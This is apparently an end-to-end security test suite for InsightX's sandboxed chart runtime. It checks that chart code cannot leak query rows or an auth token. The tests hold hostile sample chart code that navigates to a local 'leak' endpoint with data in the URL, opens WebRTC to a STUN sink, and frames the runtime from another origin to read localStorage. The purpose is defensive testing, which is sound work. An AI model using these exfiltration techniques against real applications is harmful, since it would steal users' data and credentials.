import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { VIZ_RUNTIME_HEADERS } from '../../src/server/static/security-headers.js';
import type { AppPage } from './pages/app-page.js';
import { hasChromium, launchBrowser } from './support/launch-browser.js';
import { useAppInNewThread } from './support/open-app.js';

const TOKEN = 'ixk_chart_security_secret';

/** An HTTP server on another port of the same host: same site as InsightX, another origin. */
interface OtherOrigin {
  url: string;
  /** Paths (with query) of every request it received. */
  requests: string[];
  close(): Promise<void>;
}

async function startOtherOrigin(pages: Record<string, { html: string; headers?: Record<string, string> }>): Promise<OtherOrigin> {
  const requests: string[] = [];
  const server = http.createServer((request, response) => {
    requests.push(request.url ?? '');
    const page = pages[new URL(request.url ?? '/', 'http://localhost').pathname];
    response.writeHead(page ? 200 : 404, { 'content-type': 'text/html; charset=utf-8', ...page?.headers });
    response.end(page?.html ?? 'not here');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** A UDP port that counts what arrives: where a STUN server would be. */
interface UdpSink {
  host: string;
  port: number;
  packets: number;
  close(): void;
}

async function startUdpSink(): Promise<UdpSink> {
  const socket = dgram.createSocket('udp4');
  const sink: UdpSink = { host: '', port: 0, packets: 0, close: () => socket.close() };
  socket.on('message', () => {
    sink.packets += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, '0.0.0.0', resolve));
  // A routable address: Chromium gathers no candidate on loopback.
  const external = Object.values(networkInterfaces())
    .flat()
    .find((address) => address && address.family === 'IPv4' && !address.internal);
  sink.host = external?.address ?? '127.0.0.1';
  sink.port = socket.address().port;
  return sink;
}

/** Page script: a peer connection with a STUN server, which sends UDP while gathering candidates. */
const peerConnectionScript = (sink: UdpSink) => `
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${sink.host}:${sink.port}' }] });
  connection.createDataChannel('leak');
  connection.onicegatheringstatechange = () => { if (connection.iceGatheringState === 'complete') window.gatheringComplete = true; };
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
`;

/** What a page's own script would get from localStorage['insightx-token'] in that frame (page script, as text). */
const READ_TOKEN = `(() => {
  try { return localStorage.getItem('insightx-token'); } catch (error) { return 'refused: ' + error.name; }
})()`;

describe.skipIf(!hasChromium)('the chart frame keeps data and the token in', () => {
  const insightx = () => inject('insightxUrl');
  let page: Page;
  let app: AppPage;
  let sink: OtherOrigin;
  let udp: UdpSink;

  beforeAll(async () => {
    sink = await startOtherOrigin({ '/leak': { html: 'got it' } });
    udp = await startUdpSink();
  });
  afterAll(async () => {
    await sink.close();
    udp.close();
  });

  useAppInNewThread((opened) => {
    ({ page, app } = opened);
  });

  const renderTemplate = async (title: string, uiCode: string): Promise<string> => {
    const response = await fetch(new URL('/api/templates', insightx()), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ title, prompt: title, generated_sql: "SELECT 'android' AS platform, 1234 AS secret_revenue", ui_code: uiCode, parameters: {}, data_source: 'sample' }),
    });
    expect(response.status).toBe(201);
    await app.openTemplates();
    await page.getByTestId('template-item').filter({ hasText: title }).click();
    await page.getByRole('button', { name: 'Re-run on fresh data' }).click();
    const error = page.getByRole('dialog', { name: 'Templates' }).getByTestId('chart-error');
    await error.waitFor({ timeout: 30_000 });
    const message = await error.innerText();
    await page.keyboard.press('Escape');
    return message;
  };

  it('stops chart code that navigates its frame to another site with the rows in the URL, before any request leaves', async () => {
    const message = await renderTemplate(
      'navigate with data',
      `import React from 'react';
export default function Viz({ data }) {
  React.useEffect(() => { location.href = '${sink.url}/leak?rows=' + encodeURIComponent(JSON.stringify(data)); }, [data]);
  return <div>loading</div>;
}`,
    );
    expect(message).toMatch(/navigate away/);
    expect(sink.requests).toEqual([]);
  });

  it('stops chart code that opens a WebRTC connection to a STUN server, with no packet sent', async () => {
    const message = await renderTemplate(
      'webrtc with data',
      `import React from 'react';
export default function Viz({ data }) {
  React.useEffect(() => {
    const connection = new window.RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp.host}:${udp.port}' }] });
    connection.createDataChannel(JSON.stringify(data));
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }, [data]);
  return <div>connecting</div>;
}`,
    );
    expect(message).toMatch(/WebRTC/);
    expect(udp.packets).toBe(0);
  });

  describe('pages of another origin on the same host', () => {
    let browser: Browser;
    let attacker: OtherOrigin;
    /** Its own UDP port: packets still in flight from the chart test above do not count here. */
    let stun: UdpSink;
    beforeAll(async () => {
      stun = await startUdpSink();
      attacker = await startOtherOrigin({
        '/frame': { html: `<iframe id="chart" src="${insightx()}/viz-runtime.html" onload="window.chartLoaded = true"></iframe>` },
        '/webrtc-blocked': { html: `<script>${peerConnectionScript(stun)}</script>`, headers: { 'connection-allowlist': VIZ_RUNTIME_HEADERS['connection-allowlist'] } },
        '/webrtc-open': { html: `<script>${peerConnectionScript(stun)}</script>` },
      });
      browser = await launchBrowser();
    });
    afterAll(async () => {
      await browser.close();
      await attacker.close();
      stun.close();
    });

    /** A fresh browser profile signed in to InsightX (the token in its localStorage). */
    const signedInPage = async (): Promise<Page> => {
      const context = await browser.newContext();
      const signedIn = await context.newPage();
      await signedIn.goto(`${insightx()}/`);
      await signedIn.evaluate(`localStorage.setItem('insightx-token', '${TOKEN}')`);
      return signedIn;
    };

    it('cannot frame the chart runtime to run code in the InsightX origin', async () => {
      const signedIn = await signedInPage();
      await signedIn.goto(`${attacker.url}/frame`);
      await signedIn.waitForFunction('window.chartLoaded === true');
      const chart = signedIn.frames().find((frame) => frame !== signedIn.mainFrame());
      expect(chart).toBeDefined();
      // Refused by frame-ancestors: Chromium shows its error page instead of the runtime.
      expect(chart!.url()).not.toContain('/viz-runtime.html');
      expect(await chart!.evaluate(READ_TOKEN)).not.toBe(TOKEN);
      await signedIn.context().close();
    });

    it('cannot read the token from the chart runtime opened as a page of its own', async () => {
      const signedIn = await signedInPage();
      await signedIn.goto(`${insightx()}/viz-runtime.html`);
      // The header's sandbox gives the page an opaque origin: no storage of InsightX's.
      expect(await signedIn.evaluate(READ_TOKEN)).toBe('refused: SecurityError');
      await signedIn.context().close();
    });

    it("sends no WebRTC packet from a page with the runtime's Connection-Allowlist, and does without it", async () => {
      const page = await browser.newPage();
      await page.goto(`${attacker.url}/webrtc-blocked`);
      await page.waitForFunction('window.gatheringComplete === true');
      expect(stun.packets).toBe(0);
      // The same page without the header does reach the UDP port: the check above can fail.
      await page.goto(`${attacker.url}/webrtc-open`);
      await expect.poll(() => stun.packets, { timeout: 20_000 }).toBeGreaterThan(0);
      await page.close();
    });
  });
});
